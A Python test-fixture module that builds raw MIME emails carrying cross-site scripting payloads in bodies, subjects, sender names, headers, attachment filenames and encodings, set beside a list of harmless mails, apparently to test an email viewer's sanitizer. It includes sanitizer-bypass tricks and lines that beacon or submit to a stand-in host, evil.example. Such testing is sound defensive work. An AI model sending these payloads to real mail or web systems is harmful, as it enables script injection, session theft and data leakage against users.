"""Mails that want to run, load, submit or follow when a colleague looks at them: in every place a mail has words."""

import base64
import quopri
from dataclasses import dataclass

PDF = b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\n%%EOF\n"
RUN = "<script>alert(1)</script>"
FAIL = "<img src=x onerror=alert(1)>"


@dataclass(frozen=True)
class Written:
    """A mail but for who it is from and what it answers. Headers stand as they go over the wire."""

    subject: bytes = b"Hello"
    name: bytes = b"Ann Lee"
    head: bytes = b""
    kind: bytes = b"Content-Type: text/plain; charset=utf-8"
    body: bytes = b"Hello"

    def sent(self, address: str, number: int, *links: str) -> bytes:
        lines = [
            b"From: " + self.name + f" <{address}>".encode(),
            b"Subject: " + self.subject,
            f"Message-ID: <hostile{number}.{address}>".encode(),
            b"MIME-Version: 1.0",
            *(link.encode() for link in links),
            *([self.head] if self.head else []),
            self.kind,
        ]
        return b"\r\n".join(lines) + b"\r\n\r\n" + self.body


def html(text: str | bytes) -> Written:
    body = text.encode() if isinstance(text, str) else text
    return Written(kind=b"Content-Type: text/html; charset=utf-8", body=b"<p>Hello</p>" + body)


def encoded(text: str, charset: str = "utf-8", form: str = "B") -> bytes:
    coded = (
        base64.b64encode(text.encode()) if form == "B" else quopri.encodestring(text.encode(), quotetabs=True)
    )
    return f"=?{charset}?{form}?".encode() + coded.replace(b" ", b"_").replace(b"=\n", b"") + b"?="


def parts(*each: tuple[bytes, bytes], kind: bytes = b"mixed") -> Written:
    whole = b"".join(b"--edge\r\n" + head + b"\r\n\r\n" + content + b"\r\n" for head, content in each)
    return Written(kind=b"Content-Type: multipart/" + kind + b"; boundary=edge", body=whole + b"--edge--\r\n")


def with_file(disposition: bytes, kind: bytes = b"application/pdf", content: bytes = PDF) -> Written:
    file = b"Content-Type: " + kind + b"\r\nContent-Disposition: attachment; " + disposition
    return parts((b"Content-Type: text/plain", b"Hello"), (file, content))


def in_html(encoding: bytes, body: bytes, charset: bytes = b"utf-8") -> Written:
    kind = b"Content-Type: text/html; charset=" + charset + b"\r\nContent-Transfer-Encoding: " + encoding
    return Written(kind=kind, body=body)


BODIES = [
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href="\x0bjavascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="java&Tab;script:alert(1)">x</a>',
    '<a href="data:text/html;charset=utf-16,%3Cscript%3Ealert(1)%3C/script%3E">x</a>',
    '<a href="intent://evil.example#Intent;scheme=javascript;end">x</a>',
    '<svg><use href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+#x"/></svg>',
    '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a></svg>',
    '<svg><image href="x" onerror="alert(1)"/></svg>',
    '<svg><discard onbegin="alert(1)"/><handler type="text/javascript">alert(1)</handler></svg>',
    '<math href="javascript:alert(1)"><mi xlink:href="data:text/html,<script>alert(1)</script>">x</mi></math>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<p id="--><img src=x onerror=alert(1)>"><!-- <p>x',
    '<table><td><a title="<style>x</style><img src=x onerror=alert(1)>">x</a></table>',
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    "<select><template><img src=x onerror=alert(1)></template><option>x</select>",
    '<img src="cid:x" usemap="#m"><map name="m"><area href="javascript:alert(1)" coords="0,0,9,9"></map>',
    '<img src="x:alert(1)" onerror="eval(src)">',
    '<div style="background:u\\72l(javascript:alert(1));position:fixed;inset:0">x</div>',
    "<style>@im\\port '//evil.example/x.css'; *{background:url(//evil.example/all)}</style>",
    '<link rel="preload" as="image" href="//evil.example/x"><link rel="dns-prefetch" href="//evil.example">',
    '<base href="javascript:/a/+alert(1)//"><a href="x">x</a>',
    '<meta http-equiv="Content-Security-Policy" content="script-src *"><meta name="referrer" content="unsafe-url">',
    '<form id="f" action="https://evil.example/"></form><input form="f" type="image" src="//evil.example/x">',
    '<button popovertarget="p">x</button><div popover id="p" onbeforetoggle="alert(1)">x</div>',
    '<iframe sandbox="allow-scripts allow-top-navigation" srcdoc="<script>top.location=\'//evil.example\'</script>">',
    '<video><track src="//evil.example/x.vtt" oncuechange="alert(1)" default></video>',
    '<input type="hidden" accesskey="x" onclick="alert(1)"><label for="id_reason">Click</label>',
    '<div x-data x-init="alert(1)" @click="alert(1)" x-html="\'<img src=x onerror=alert(1)>\'">x</div>',
    '<a href="https://evil.example" data-dialog class="r-btn" id="content">Approve</a>',
]
WORDS = [
    RUN,
    f'">{FAIL}',
    "' autofocus onfocus=alert(1) x='",
    f"</p></details></article>{RUN}",
    f"</textarea></title>{RUN}<!--",
    "{{ request.user.password }}{% debug %}{{ x|safe }}",
    "javascript:alert(1)\nhttps://evil.example/<svg/onload=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt; \\u003cscript\\u003ealert(1)",
]
SUBJECTS = [
    RUN.encode(),
    b"</title></h2>" + RUN.encode(),
    b'"><svg onload=alert(1)>',
    b"' onmouseover=alert(1) x='",
    b"javascript:alert(1)",
    b"<b>{{ 7|add:7 }}</b>{% csrf_token %}",
    encoded(FAIL),
    encoded(RUN, form="Q"),
    b"=?utf-7?Q?+ADw-script+AD4-alert(1)+ADw-/script+AD4-?=",
    b"Hello\r\n <iframe src=javascript:alert(1)>",
]
NAMES = [
    b'"' + RUN.encode() + b'"',
    b'"\\"><img src=x onerror=alert(1)>"',
    encoded("</a><script>alert(1)</script>"),
    encoded("' onmouseover=alert(1) x='", form="Q"),
]
HEADS = [
    b'To: "' + RUN.encode() + b'" <complaints@firm.example>',
    b'Cc: "<svg onload=alert(1)>" <cc@example.com>',
    b'Reply-To: "<img src=x onerror=alert(1)>" <"<script>alert(1)</script>"@evil.example>',
    b"Date: " + RUN.encode(),
]
FILES = [
    b'filename="<img src=x onerror=alert(1)>.pdf"',
    b'filename="\\"><script>alert(1)</script>.pdf"',
    b"filename=\"x.pdf' onclick='alert(1)\"",
    b'filename="javascript:alert(1).pdf"',
    b'filename="..\\\\..\\\\<svg onload=alert(1)>.pdf"',
    b"filename*=utf-8''%3Cscript%3Ealert(1)%3C%2Fscript%3E.pdf",
    b'filename="' + encoded(f"{FAIL}.pdf") + b'"',
]
WHOLE = [
    in_html(b"base64", base64.b64encode(FAIL.encode())),
    in_html(b"quoted-printable", b"=3Cscript=3Ealert(1)=3C/script=3E<p>x=\r\n</p>"),
    in_html(b"8bit", f"<p>x</p>{RUN}".encode("utf-16"), b"utf-16"),
    in_html(b"7bit", b"+ADw-img src=x onerror=alert(1)+AD4-", b"utf-7"),
    in_html(b"7bit", b"\x1b$B<script>alert(1)</script>\x1b(B<img src=x onerror=alert(1)>", b"iso-2022-jp"),
    in_html(b"8bit", b"\xc0\xbcscript\xc0\xbealert(1)<img src=x\xff onerror=alert(1)>", b'"<script>"'),
    parts(
        (b"Content-Type: text/plain", RUN.encode()),
        (b"Content-Type: text/html", FAIL.encode()),
        kind=b"alternative",
    ),
    with_file(b'filename="a.html"', b"text/html", RUN.encode()),
    with_file(
        b'filename="a.svg"', b"image/svg+xml", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
    ),
    with_file(
        b'filename="a.pdf"', b'text/html\r\nContent-ID: <"><script>alert(1)</script>>', PDF + RUN.encode()
    ),
    with_file(
        b'filename="a.eml"', b"message/rfc822", b"Subject: " + RUN.encode() + b"\r\n\r\n" + FAIL.encode()
    ),
    Written(
        kind=b"Content-Type: application/xhtml+xml", body=b"<html xmlns='x'><script>alert(1)</script></html>"
    ),
]


def pictured(kind: bytes, picture: bytes) -> Written:
    """A picture of the mail's own, which is shown where the bytes are one."""
    shown = (b"Content-Type: text/html", b'<p>Hello</p><img src="cid:x" onerror="alert(1)">')
    return parts(shown, (b"Content-Type: " + kind + b"\r\nContent-ID: <x>", picture), kind=b"related")


PICTURES = [
    pictured(b"image/svg+xml", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
    pictured(b"image/png", b"<html>" + RUN.encode()),
    pictured(b"text/html", b"GIF89a\x01\0\x01\0/*" + RUN.encode()),
]
HOSTILE_MAILS = [
    *map(html, BODIES),
    *(Written(body=text.encode()) for text in WORDS),
    *(Written(subject=subject) for subject in SUBJECTS),
    *(Written(name=name) for name in NAMES),
    *(Written(head=head) for head in HEADS),
    *map(with_file, FILES),
    *WHOLE,
    *PICTURES,
]
#: The same places, with nothing in them: what a page is made of when nobody is hostile.
HARMLESS_MAILS = [
    html("<p>Hello</p>"),
    Written(),
    Written(subject=b"To be alert, or not"),
    Written(head=b'To: "Firm" <complaints@firm.example>\r\nCc: "Cy" <cc@example.com>'),
    Written(head=b'Reply-To: "Cy" <cc@example.com>\r\nDate: Mon, 02 Nov 2026 10:00:00 +0000'),
    Written(kind=b"Content-Type: text/plain; charset=nonsense", body=b"x\xff"),
    Written(body=b"Hello\n" * 200),
    with_file(b'filename="a.pdf"'),
    with_file(b'filename="a.html"', b"text/html", b"<p>Hello</p>"),
    with_file(b'filename="a.eml"', b"message/rfc822", b"Subject: Hello\r\n\r\nHello"),
]
